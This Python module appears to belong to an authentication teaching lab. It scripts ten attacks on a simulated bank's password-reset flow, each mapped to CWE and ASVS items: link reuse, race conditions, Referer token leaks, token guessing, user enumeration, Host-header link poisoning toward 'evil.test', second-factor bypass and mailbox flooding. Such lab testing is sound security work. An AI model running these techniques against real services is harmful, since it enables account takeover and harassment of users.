"""The thefts by reset link (notebook 12): what a mailed link gives away, and to whom.

Every function returns the loot, "" for none, and why the theft failed if it did.
"""

import re
import secrets
from collections.abc import Iterator
from itertools import islice
from threading import Barrier, Thread

from authlab.attacks.reset_scene import HERS, MINE, ResetScene, referrer, token_of
from authlab.attacks.stage import EVIL
from authlab.bank import Customer
from authlab.bank.customer import read_link
from authlab.web import Browser, origin_of

__all__ = ["ATTACKS"]

PHONE = "192.0.2.11"  # Alice's second device
_MANY = 20  # mails
_MOST_GUESSES = 1_000


@ResetScene.theft("Use a reset link again",
                  "a link that Alice has used, from her browser's history or her mail archive",
                  ("once", "bound"), ("CWE-640", "CWE-294", "ASVS 6.5.1"))  # fmt: skip
def reuse(scene: ResetScene) -> tuple[str, str]:
    """Find a link that Alice has used, in her browser's history or her mail archive."""
    link = scene.get_link()
    if scene.alice.follow(link, HERS).status != 200:
        return "", "Alice's own link did not work."
    scene.say("alice", "thief", "a used link, from her browser's history", link)
    return scene.use(token_of(link)), "The bank did not take a link that Alice had used."


@ResetScene.theft("Use an older reset link",
                  "a link that Alice did not use, because she used another",
                  ("bound",), ("CWE-640", "CWE-613", "ASVS 6.4.1"))  # fmt: skip
def stale(scene: ResetScene) -> tuple[str, str]:
    """Find a link that Alice never used: she asked twice, and took the other mail."""
    old, link = scene.get_link(), scene.get_link()
    if not old or not link or scene.alice.follow(link, HERS).status != 200:
        return "", "The bank sent no two links that work."
    scene.say("alice", "thief", "an older link, from her mail archive", old)
    return scene.use(token_of(old)), "The older link died when Alice used the newer one."


@ResetScene.theft("Use a reset link at the same moment", "a copy of the link, and Alice's timing",
                  ("once", "bound"), ("CWE-367", "ASVS 6.5.1"))  # fmt: skip
def race(scene: ResetScene) -> tuple[str, str]:
    """Use a link at the very moment at which Alice uses it."""
    link = scene.get_link()
    page = scene.alice.page = scene.alice.browser.goto(link)
    token, start = read_link(page) or token_of(link), Barrier(2)
    took: list[int] = []

    def press_as_alice() -> None:
        start.wait(10)
        took.append(scene.alice.call("/reset/confirm", {"token": token, "new": HERS}).status)

    def press_as_mallory() -> None:
        start.wait(10)
        took.append(scene.ask("/reset/confirm", data={"token": token, "new": MINE}).status_code)

    threads = [Thread(target=press, daemon=True) for press in (press_as_alice, press_as_mallory)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    if took == [200, 200]:
        return "set a password with the link that set one for Alice at the same moment", ""
    return "", f"Of two at once, the bank took {took.count(200)}."


@ResetScene.theft("Read the reset link in a Referer",
                  "a picture of hers in the page that the link opens",
                  ("fragment", "referrer"), ("CWE-598", "ASVS 14.2.1", "ASVS 3.4.5"))  # fmt: skip
def leak(scene: ResetScene) -> tuple[str, str]:
    """Own a picture in the page that the link opens, and read the Referer it is asked for with."""
    page = scene.alice.browser.goto(scene.get_link())
    shown = re.findall(r'<img[^>]* src="([^"]+)"', page.text)
    allowed = page.headers.get("Content-Security-Policy", "").split(";")[0].split()
    for picture in shown:
        if origin_of(picture) not in allowed:
            return "", "The page's Content-Security-Policy does not let the picture load."
        named = referrer(page, picture)
        scene.say("alice", "thief", f"GET {picture}", f"Referer: {named or '(none)'}")
        if named and (loot := scene.use(token_of(named))):
            return loot, ""
    if not shown:
        return "", "The page shows nobody's picture."
    return "", "The page told no other site where Alice was."


@ResetScene.theft("Guess the reset link", "an account of her own",
                  ("random",), ("CWE-640", "CWE-340", "ASVS 6.5.3"))  # fmt: skip
def guess(scene: ResetScene) -> tuple[str, str]:
    """Ask for a link for Alice and for one of her own, and count from there."""
    scene.get_link()
    mine = token_of(scene.get_link("mallory"))
    if not mine:
        return "", "The bank mailed Mallory no link to count from."
    tried = 0
    for tried, code in enumerate(islice(_guesses(mine), _MOST_GUESSES), 1):
        with scene.quietly():
            loot = scene.use(code)
        if scene.answered == 429:
            return "", f"After {tried - 1} guesses the bank took no more."
        if loot:
            scene.say("thief", "bank", f"guess {tried} is right", code)
            return loot, ""
    return "", f"{tried:,} guesses made: none was Alice's link."


def _guesses(mine: str) -> Iterator[str]:
    """Yield what Alice's may be: all short numbers, those before a longer one, or random text."""
    if not (mine.isascii() and mine.isdigit()):
        yield from (secrets.token_urlsafe(32) for _ in range(50))
    elif len(mine) < 5:
        yield from (f"{number:0{len(mine)}}" for number in range(10 ** len(mine)))
    else:
        yield from (f"{int(mine) - step:0{len(mine)}}" for step in range(1, _MOST_GUESSES + 1))


@ResetScene.theft("Ask who is a customer", "names to try", ("answer",), ("CWE-204", "ASVS 6.3.8"))
def enumerate_(scene: ResetScene) -> tuple[str, str]:
    """Ask for a link in two names, one of a customer, and compare what the bank answers."""
    nobody = f"nobody-{secrets.token_hex(3)}"
    replies = [scene.ask("/reset", data={"user": name}) for name in ("alice", nobody)]
    known, unknown = ((r.status_code, r.text, sorted(r.headers)) for r in replies)
    if known != unknown:
        return f"learnt that alice is a customer, and {nobody} is not", ""
    return "", "The bank answered the same for a customer and for nobody."


@ResetScene.theft("Outlive the reset",
                  "a copy of Alice's log-in, from before she set a new password",
                  ("end",), ("CWE-613", "ASVS 7.4.3"))  # fmt: skip
def survive(scene: ResetScene) -> tuple[str, str]:
    """Have a copy of Alice's log-in, and keep it when she sets a new password because of that."""
    copies = scene.copy_login("malware copies the credential")
    elsewhere = Customer("alice", Browser(scene.network, scene.clock, address=PHONE))
    if elsewhere.follow(scene.get_link(), HERS).status != 200:
        return "", "Alice's own link did not work."
    scene.say("alice", "bank", "sets a new password, on her phone")
    return scene.spend_any(copies), "The bank did not take the copy once Alice had a new password."


@ResetScene.theft("Skip the second factor by a reset", "Alice's mail, and not her phone",
                  ("factor",), ("CWE-640", "CWE-308", "ASVS 6.4.3"))  # fmt: skip
def skip(scene: ResetScene) -> tuple[str, str]:
    """Read Alice's mail, but not her phone."""
    if scene.factor is None or not scene.factor.wants("alice"):
        return "", "This bank has no second factor to skip."
    link = scene.get_link()
    scene.say("alice", "thief", "Mallory reads Alice's mail", link)
    loot = scene.use(token_of(link))
    inside = "balance" in loot
    return (loot if inside else ""), "The bank asked for the code, which is on Alice's phone."


@ResetScene.theft("Poison the mailed link", "Alice clicks on a link in the bank's own mail",
                  ("site",), ("CWE-640", "CWE-644"))  # fmt: skip
def poison(scene: ResetScene) -> tuple[str, str]:
    """Ask in Alice's name with a Host header of Mallory's, and wait for Alice to click."""
    link = scene.get_link(Host="evil.test")
    if not link.startswith(EVIL):
        return "", "The link leads to the bank, whatever Host the request named."
    page = scene.alice.browser.goto(link)
    seen = scene.alice.browser.run_script(page, lambda window: window.location)
    scene.say("alice", "thief", "opens Mallory's page, whose script reads the address", seen)
    return scene.use(token_of(seen)), "The bank did not take what Mallory read."


@ResetScene.theft("Flood Alice's mailbox", "nothing", ("limit",), ("CWE-799", "ASVS 2.4.1"))
def flood(scene: ResetScene) -> tuple[str, str]:
    """Have the bank send Alice mail after mail."""
    before = len(scene.reset.mailbox.of("alice"))
    with scene.quietly():
        for _ in range(_MANY):
            scene.ask("/reset", data={"user": "alice"})
    came = len(scene.reset.mailbox.of("alice")) - before
    scene.say("thief", "bank", f"asks {_MANY} times", f"{came} mails to Alice")
    if came == _MANY:
        return f"had the bank send Alice {came} mails", ""
    return "", f"Mallory asked {_MANY} times, and Alice got {came} mails."


ATTACKS = [reuse, stale, race, leak, guess, enumerate_, survive, skip, poison, flood]
